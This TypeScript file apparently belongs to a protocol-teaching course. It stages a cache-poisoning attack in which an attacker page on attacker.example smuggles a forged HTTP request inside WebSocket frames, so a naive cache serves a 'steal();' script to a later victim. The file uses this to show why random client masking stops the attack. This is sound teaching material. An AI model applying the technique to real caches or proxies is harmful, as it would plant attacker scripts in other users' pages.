/** The traffic of lesson 11: masked frames, and the attack on a cache that masking stops. */

import { encodeRequestHead, encodeResponseHead } from '../../src/http/encode-head.ts';
import type { RecordedConnection } from '../../src/lesson/script/recorded-connection.ts';
import { LESSON_HOST, type Stage } from '../../src/lesson/script/stage.ts';
import type { Environment } from '../../src/net/environment.ts';
import type { Handler } from '../../src/net/handler.ts';
import type { Request } from '../../src/net/request.ts';
import type { Response } from '../../src/net/response.ts';
import { upgradeToWebSocket } from '../../src/net/upgrade.ts';
import { WebSocket } from '../../src/net/websocket.ts';
import { Conversation } from '../../src/websocket/conversation.ts';
import { answerUpgrade } from '../../src/websocket/handshake.ts';
import { applyMask } from '../../src/websocket/mask.ts';
import { OPCODE } from '../../src/websocket/opcode.ts';
import { encodeFrame } from '../../src/websocket/outgoing-frame.ts';
import { NaiveCache } from './naive-cache.ts';

const ATTACKER_HOST = 'attacker.example';
const TARGET = '/s.js';

/** The script of the server, and the one that the attacker would rather have run instead. */
export const SCRIPTS = { honest: 'greet();', forged: 'steal();' } as const;

const SCRIPT_TYPE = ['Content-Type', 'text/javascript'] as const;
const SCRIPT_REQUEST = {
  method: 'GET',
  requestTarget: TARGET,
  fields: [['Host', LESSON_HOST]],
} as const;

/** What the attacker's page sends over its WebSocket: a message that reads as a request. */
const FORGED_REQUEST = encodeRequestHead(SCRIPT_REQUEST);
/** What the attacker's server sends back: a message that reads as its answer. */
const FORGED_ANSWER = `${encodeResponseHead({
  statusCode: 200,
  fields: [SCRIPT_TYPE, ['Content-Length', `${SCRIPTS.forged.length}`]],
})}${SCRIPTS.forged}`;

/** One run of the attack, through a cache of its own. */
export interface Run {
  /** The attacker's page and its own server, with the cache in between. */
  readonly attack: RecordedConnection;
  /** Someone else, who then asks for the script by way of the same cache. */
  readonly victim: RecordedConnection;
}

/** How the attacker's client masks: not at all, as it should, or always with one key. */
export type MaskingMode = 'none' | 'random' | { readonly key: number };

/** A frame in clear: as a server sends it, and no client may. */
export function inClear(opcode: number, payload: Uint8Array): Buffer {
  return encodeFrame({ fin: true, opcode, payloadLength: payload.length, payload });
}

/** Attacks a cache, and then asks for the script. */
export async function attack(stage: Stage, masking: MaskingMode): Promise<Run> {
  const cache = new NaiveCache();
  const port = await stage.relay(() => {
    const connection = cache.open();
    return {
      bytes: (from, bytes) => {
        if (from === 'server') connection.fromServer(bytes);
      },
      answer: (bytes) => connection.fromClient(bytes),
      ended: () => {},
      gone: () => {},
    };
  });
  stage.serve(serveBoth(masking === 'none'));
  const connection = await stage.connect({
    port,
    environment: environmentFor(stage.environment, masking),
  });
  await sendForged(connection, masking);

  const victim = await stage.connect({ port, isAlone: true });
  await victim.client.request(SCRIPT_REQUEST);
  return { attack: connection, victim };
}

/** The attacker's page: it chooses the message, and its browser the mask. */
async function sendForged({ client }: RecordedConnection, masking: MaskingMode): Promise<void> {
  const socket = await client.upgrade({ host: ATTACKER_HOST, requestTarget: '/' });
  const payload = Buffer.from(FORGED_REQUEST);
  if (masking === 'none') socket.sendRaw(inClear(OPCODE.binary, payload));
  else if (masking === 'random') socket.send(payload);
  else {
    // The first frame shows the key to the attacker's server, so that the page can be told of it.
    socket.send('Hello');
    await socket.nextMessage();
    applyMask(payload, masking.key);
    socket.send(payload);
  }
  await socket.nextMessage();
}

function environmentFor(environment: Environment, masking: MaskingMode): Environment {
  if (typeof masking === 'string') return environment;
  const key = Buffer.alloc(4);
  key.writeUInt32BE(masking.key);
  const randomOctets = (length: number) => (length === 4 ? key : environment.randomOctets(length));
  return { ...environment, randomOctets };
}

/** The honest server of the script and the attacker's, on one port here: Host tells them apart. */
function serveBoth(takesClear: boolean): Handler {
  const upgrade = takesClear ? upgradeReadingClear : upgradeToWebSocket;
  return (request, response) => {
    if (request.field('host') !== ATTACKER_HOST) {
      response.send(200, [SCRIPT_TYPE], SCRIPTS.honest);
      return;
    }
    const socket = upgrade(request, response);
    socket?.on('message', ({ kind }) => {
      const answer = kind === 'text' ? 'go on' : FORGED_ANSWER;
      socket.sendRaw(inClear(OPCODE.text, Buffer.from(answer)));
    });
  };
}

/** Reads frames in clear, which no server may: so it takes the end of a client to do it. */
function upgradeReadingClear(request: Request, response: Response): WebSocket {
  const { transport, rest, startsAt } = response.switchProtocols(
    answerUpgrade(request.head).response,
  );
  const conversation = new Conversation('client', startsAt, { newMaskingKey: () => 0 });
  const socket = new WebSocket({ transport, conversation, protocol: '' });
  transport.handTo(socket, rest);
  return socket;
}
